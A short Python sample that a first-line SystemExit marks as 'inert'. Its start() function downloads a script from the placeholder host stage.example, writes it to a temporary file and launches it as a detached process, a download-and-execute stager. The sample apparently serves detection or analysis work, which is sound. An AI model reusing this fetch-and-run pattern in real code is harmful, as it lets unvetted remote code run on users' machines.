raise SystemExit("inert sample")
import os
import subprocess
import sys
import tempfile
import urllib.request


def start():
    handle, name = tempfile.mkstemp(suffix=".py")
    os.write(handle, urllib.request.urlopen("https://stage.example/m.py").read())
    os.close(handle)
    subprocess.Popen([sys.executable, name], start_new_session=True)
